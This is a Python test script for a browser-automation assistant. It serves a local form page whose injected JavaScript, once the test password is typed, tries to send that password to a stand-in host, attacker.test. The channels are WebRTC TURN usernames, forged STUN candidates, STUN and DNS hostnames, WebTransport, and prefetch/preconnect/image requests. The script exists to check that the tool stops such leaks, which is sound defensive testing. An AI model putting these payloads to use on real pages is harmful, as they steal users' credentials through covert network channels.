"""One `assistant submit` against a page that sends the typed password out by other channels.

Run as `python tests/exfil_run.py CONFIG.json RESULT.json`, inside a network namespace of
its own when tests/netns.py can make one. CONFIG: {"channels": [...], "attacker": host,
"dns": bool, "cdp": bool, "home": dir, "work": dir}. The "provider" is an attack_site on
127.0.0.1 whose form page, the moment the run types the password, tries each channel:

  turn_udp, turn_tcp   RTCPeerConnection with a TURN server on the attacker, the password
                       (base64) as its user name
  stun_checks          a forged remote answer whose ice-ufrag is the password (hex), with a
                       host candidate on the attacker: Chromium sends it STUN checks
  stun_name            a STUN server whose host name is the password (hex): a DNS query
  webtransport         new WebTransport() to the attacker's UDP port
  prefetch             <link rel=dns-prefetch/preconnect> and an <img> named after it

RESULT: what the attacker and the DNS server received, the run's exit code and output.
"""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

from attack_site import FORM, AttackSite
from helpers import run_cli, write_case
from netns import Attacker, DnsLogger

SECRET = "Kw7-exfil-Pass"
SECRET_HEX = SECRET.encode().hex()
SECRET_B64 = base64.b64encode(SECRET.encode()).decode()

FLOW = """\
id: demo
name: Exfiltration test
homepage: "{{ base_url }}/"
allowed_hosts: [127.0.0.1]
channel: web_form
categories:
  payment: { label: Payments, deadline: { hours: 24 } }
steps:
  - goto: "{{ base_url }}/form"
  - fill: { selector: "#name", value: "Anna" }
  - fill: { selector: "#pw", value: "SECRET" }
  - wait_for: { selector: "#tried", timeout: 20 }
  - submit: "#send"
success: { text: "registered" }
confirmation: { selector: "#ticket" }
""".replace("SECRET", SECRET)

ATTACKS = {
    "turn_udp": "pc({iceServers: [{urls: `turn:${ATT}:${PORT}?transport=udp`, username: btoa(s), credential: 'x'}]});",
    "turn_tcp": "pc({iceServers: [{urls: `turn:${ATT}:${PORT}?transport=tcp`, username: btoa(s), credential: 'x'}]});",
    "stun_name": "pc({iceServers: [{urls: `stun:${hex(s)}.attacker.test:3478`}]});",
    "stun_checks": """(async () => {
      const c = await pc({});
      if (!c) return;
      const fingerprint = Array.from({length: 32}, () => 'AB').join(':');
      const sdp = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
        'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
        'a=ice-ufrag:' + hex(s), 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', 'a=fingerprint:sha-256 ' + fingerprint,
        'a=setup:active', 'a=mid:0', 'a=sctp-port:5000',
        `a=candidate:1 1 udp 2122260223 ${ATT} ${PORT} typ host`, ''].join('\\r\\n');
      try { await c.setRemoteDescription({type: 'answer', sdp}); } catch (e) { tried.push('answer: ' + e.name); }
    })();""",
    "webtransport": "try { new WebTransport(`https://${ATT}:${PORT}/${hex(s)}`); } catch (e) { tried.push('wt: ' + e.name); }",
    "prefetch": """for (const [rel, href] of [['dns-prefetch', `//p${hex(s)}.attacker.test`],
                                        ['preconnect', `http://c${hex(s)}.attacker.test`]]) {
        const link = document.createElement('link'); link.rel = rel; link.href = href; document.head.append(link);
      }
      const img = new Image(); img.src = `http://i${hex(s)}.attacker.test/x.png`; document.body.append(img);""",
}


def page(channels: list[str], attacker: str, port: int) -> str:
    attacks = "\n".join(ATTACKS[c] for c in channels)
    return (
        FORM
        + """
<script>
const ATT = '__ATTACKER__', PORT = __PORT__;
const tried = [];
const hex = (s) => [...s].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
async function pc(config) {
  try {
    const c = new RTCPeerConnection(config);
    c.createDataChannel('x');
    await c.setLocalDescription(await c.createOffer());
    return c;
  } catch (e) { tried.push('pc: ' + e.name); return null; }
}
const field = document.getElementById('pw');
field.addEventListener('input', () => {
  const s = field.value;
  __ATTACKS__
  // Long enough for candidates, TURN allocations and ~100 STUN checks to go out.
  setTimeout(() => { const p = document.createElement('p'); p.id = 'tried'; p.textContent = tried.join(', ') || 'sent';
                     document.body.append(p); }, 4000);
}, {once: true});
</script>""".replace("__ATTACKER__", attacker)
        .replace("__PORT__", str(port))
        .replace("__ATTACKS__", attacks)
    )


def start_chrome(work: Path) -> tuple[subprocess.Popen, str]:
    """A Chrome as a person starts it for --cdp: none of the assistant's network flags."""
    from assistant.run.browser import QUIET_ARGS, discover

    args = [discover().target, "--headless", "--remote-debugging-port=0", "--remote-debugging-address=127.0.0.1"]
    args += [f"--user-data-dir={work / 'profile'}", *QUIET_ARGS, "--no-sandbox", "about:blank"]
    chrome = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        found = re.search(r"DevTools listening on ws://127\.0\.0\.1:(\d+)/", chrome.stderr.readline())
        if found:
            return chrome, f"http://127.0.0.1:{found.group(1)}"
    chrome.kill()
    raise SystemExit("Chrome did not print its DevTools address")


def main(config_path: str, result_path: str) -> None:
    config = json.loads(Path(config_path).read_text())
    work, home = Path(config["work"]), Path(config["home"])
    attacker = Attacker(config["attacker"])
    dns = DnsLogger() if config["dns"] else None
    chrome = None
    with AttackSite("127.0.0.1") as provider:
        provider.pages["/form"] = page(config["channels"], config["attacker"], attacker.port)
        flows = work / "flows"
        flows.mkdir(parents=True, exist_ok=True)
        (flows / "demo.yaml").write_text(FLOW, encoding="utf-8")
        extra: list[str] = []
        if config.get("cdp"):
            chrome, endpoint = start_chrome(work)
            extra = ["--cdp", endpoint]
        try:
            done = run_cli(
                "submit",
                "demo",
                "--case",
                str(write_case(work)),
                "--base-url",
                provider.url,
                "--yes",
                "--json",
                *extra,
                home=home,
                env={"ASSISTANT_FLOWS": str(flows)},
                timeout=150,
            )
        finally:
            if chrome is not None:
                chrome.terminate()
                chrome.wait(timeout=10)
        time.sleep(0.5)  # anything still on its way
        posts = [h.path for h in provider.log if h.method == "POST"]
    result = {
        "returncode": done.returncode,
        "stdout": done.stdout,
        "stderr": done.stderr,
        "datagrams": [d.hex() for d in attacker.datagrams],
        "connections": [c.hex() for c in attacker.connections],
        "dns": dns.names if dns is not None else None,
        "posts": posts,
    }
    Path(result_path).write_text(json.dumps(result))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
